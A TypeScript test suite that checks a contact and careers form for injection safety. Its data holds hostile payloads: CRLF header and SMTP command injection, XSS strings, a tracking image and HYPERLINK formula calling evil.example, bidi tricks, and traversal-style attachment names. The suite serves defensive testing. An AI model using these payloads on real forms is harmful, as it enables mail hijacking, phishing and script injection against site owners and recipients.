import { beforeAll, expect, test } from 'vitest';
import { goodAnswers, goodApplication, postMessage, resumeFixture } from '../bed/posted-form.ts';
import { type RunningServer, startServerBed } from '../bed/server-bed.ts';
import { until } from '../bed/until.ts';

let server: RunningServer;
beforeAll(async () => {
  server = await startServerBed();
  return server.close;
});

const staff = 'hello@veramasa.example';
const mailsAbout = (reference: string) =>
  server.mail.received.filter((mail) => mail.raw.includes(reference) || mail.subject?.includes(reference));

/** Injections for mail programs, spreadsheets and browsers; each is sent in every text field. */
const hostile = {
  'a header behind CRLF': 'Asha\r\nBcc: thief@evil.example\r\nX-Evil: 1',
  'a header behind other line ends':
    'Asha\u2028Bcc: thief@evil.example\u0085Cc: thief@evil.example\u000bTo: x',
  'an escaped header': 'Asha%0d%0aBcc:%20thief@evil.example',
  'a body behind an empty line': 'Asha\r\n\r\n<html><script>alert(1)</script>',
  'an end of the message':
    'Asha\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\nhi\r\n.',
  'an end of the message by line feeds':
    'Asha\n.\nMAIL FROM:<a@evil.example>\nRCPT TO:<thief@evil.example>\nDATA\n',
  'an end of a part': 'Asha\r\n--=_nmp\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n',
  'an encoded word': '=?utf-8?Q?=0D=0ABcc=3A_thief=40evil.example?= =?utf-7?Q?+AA0ACg-?=',
  'a second address': 'Asha <thief@evil.example>, "x" <y@evil.example>;',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an end of an attribute': `"><svg onload=alert(1)>'><a href='javascript:alert(1)'>`,
  'a style that hides': '</span></div></body><style>*{display:none}</style><!--',
  'a picture that reports':
    '<img src="https://evil.example/seen.gif"><link rel=stylesheet href=//evil.example>',
  'a formula': '=HYPERLINK("https://evil.example","Open")',
  'a formula behind a tab': '\t=1+1',
  'signs of direction': '\u202eelpmaxe.live\u202c \u2066x',
  'null bytes': 'As\0ha\u0007\u001b[31m',
  'marks piled upon marks': `A${'\u0316\u0489'.repeat(60)}`,
};

test.each(Object.entries(hostile))('%s in an enquiry stays plain text', async (what, text) => {
  const texts = { name: text, organization: text, comment: `${what}\n${text}` };
  const reference = await postMessage(server.url, { ...goodAnswers, ...texts });
  const mails = await until(() => mailsAbout(reference).length === 2 && mailsAbout(reference));
  expect(mails.map(({ recipient }) => recipient).sort()).toEqual(['asha@mill.example', staff]);
  for (const mail of mails) {
    expectOnlyOurHeaders(mail.raw);
    expect(mail.to?.map(({ address }) => address)).toEqual([mail.recipient]);
    expect([mail.cc ?? [], mail.bcc ?? []]).toEqual([[], []]);
    expect(mail.subject).toMatch(/^[^\p{Cc}\p{Zl}\p{Zp}]{10,170}$/u);
    expect(`${mail.subject}${mail.text}${mail.html}`).not.toMatch(
      /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
    );
    expectInertHtml(mail.html ?? '');
    expect(mail.attachments).toEqual([]);
  }
  const [toStaff, toSender] = mails.sort((a) => (a.recipient === staff ? -1 : 1));
  expect(toStaff?.replyTo?.map(({ address }) => address)).toEqual(['asha@mill.example']);
  // No line of a mail starts with a spreadsheet formula.
  expect(toStaff?.text).not.toMatch(/^[=+@\t]|^-(?![-\n])/m);
  expect(`${toSender?.subject} ${toSender?.text} ${toSender?.html}`).not.toMatch(/evil|alert|HYPERLINK|calc/);
});

test.each([
  ['a question mark', 'a?bcc=thief%40evil.example@mill.example'],
  ['a quote', `a'onclick='alert@mill.example`],
  ['a percent sign', 'a%0d%0abcc%3ax@mill.example'],
  ['a sign of a formula', '=1+1@mill.example'],
  ['letters beyond ASCII', 'आशा@mill.example'],
  ['an option of a program', '-oQ/tmp@mill.example'],
])('an address with %s adds no header and no recipient', async (_what, email) => {
  const reference = await postMessage(server.url, { ...goodAnswers, email, comment: email });
  const toStaff = await until(() => mailsAbout(reference).find(({ recipient }) => recipient === staff));
  expectOnlyOurHeaders(toStaff.raw);
  // Only ASCII headers are accepted by every mail server.
  expect(toStaff.replyTo ?? []).toHaveLength(/[^\0-\x7f]/.test(email) ? 0 : 1);
  for (const [, link = ''] of (toStaff.html ?? '').matchAll(/href="mailto:([^"]*)"/g))
    expect(link.replaceAll('&#39;', "'")).toMatch(/^[^?&"<>\s]+\?subject=Re%3A%20ENQ-\w{6}$/);
  expectInertHtml(toStaff.html ?? '');
  const recipients = server.mail.received.map(({ recipient }) => recipient);
  expect(recipients.filter((address) => /^thief|^x@/.test(address))).toEqual([]);
});

test.each([
  ['a header', 'a"\r\nContent-Type: text/html\r\n\r\n<script>.pdf'],
  ['a script', '<svg onload=alert(1)>.pdf'],
  ['a path', '../../.ssh/authorized_keys.pdf'],
  ['an ending that reads backwards', 'annex\u202efdp.exe.pdf'],
  ['a parameter', 'a.pdf"; filename*=utf-8\'\'evil.exe; x="b.pdf'],
  ['a formula', '=1+1.pdf'],
])('a resume named %s reaches the staff under a harmless name', async (what, name) => {
  const resume = resumeFixture('written.pdf', name);
  const reference = await postMessage(server.url, { ...goodApplication, comment: what }, {}, [resume]);
  const careers = 'careers@veramasa.example';
  const mail = await until(() => mailsAbout(reference).find(({ recipient }) => recipient === careers));
  expectOnlyOurHeaders(mail.raw);
  expectInertHtml(mail.html ?? '');
  expect(mail.attachments).toHaveLength(1);
  const [attachment] = mail.attachments;
  expect(attachment?.mimeType).toBe('application/pdf');
  expect(attachment?.filename).toMatch(/\.pdf$/);
  expect(attachment?.filename).not.toMatch(/[/\\<>"\p{Cc}\u202a-\u202e]|^\./u);
});

const ourHeaders =
  /^(From|To|Reply-To|Subject|Message-ID|Date|MIME-Version|Content-(Type|Transfer-Encoding)|Auto-Submitted|X-Auto-Response-Suppress)$/;

function expectOnlyOurHeaders(raw: string): void {
  const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
  const names = [...head.matchAll(/^([^\s:]+):/gm)].map(([, name]) => name ?? '');
  expect(names.filter((name) => !ourHeaders.test(name))).toEqual([]);
  expect(new Set(names).size).toBe(names.length);
  expect(head.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
}

/** Only the elements of the mail layout, without event handlers and without remote resources. */
function expectInertHtml(html: string): void {
  const elements = [...html.matchAll(/<([a-z][\w-]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/gi)];
  const known = /^(html|head|meta|title|style|body|div|p|h1|h2|span|a|b|br|ol|li)$/;
  for (const [whole, name = '', attributes = ''] of elements) {
    expect(name).toMatch(known);
    expect(attributes.replace(/"[^"]*"/g, '""'), whole).not.toMatch(/\s(on\w+|src|background|action)\s*=/i);
    expect(/\shref="([^"]*)"/i.exec(attributes)?.[1] ?? 'tel:').toMatch(/^(https?|mailto|tel):/);
  }
  expect(elements.filter(([, name]) => name === 'style')).toHaveLength(1);
}
